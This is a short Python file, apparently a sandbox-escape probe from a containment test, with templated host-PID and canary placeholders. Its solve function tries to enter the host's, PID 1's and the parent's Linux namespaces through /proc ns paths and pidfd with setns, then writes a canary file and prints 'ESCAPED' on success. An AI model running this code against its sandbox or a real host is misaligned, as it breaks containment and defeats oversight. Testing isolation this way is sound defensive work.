# joins the namespaces of the host's process, of process 1 and of the parent, by path and by pidfd
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    for pid in ("@HOST_PID@", "1", str(os.getppid())):
        for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            same = os.readlink(f"/proc/{pid}/ns/{kind}") == os.readlink(f"/proc/self/ns/{kind}")
            if libc.setns(fd, 0) == 0 and not same:
                print("ESCAPED", pid, kind, flush=True)
        handle = libc.syscall(434, int(pid), 0)
        if handle >= 0 and libc.setns(handle, 0x20000) == 0:
            print("entered", pid, flush=True)
    try:
        open("@CANARY@/cohort-canary-setns", "w").close()
        print("ESCAPED canary")
    except OSError as error:
        print(error)
    return n
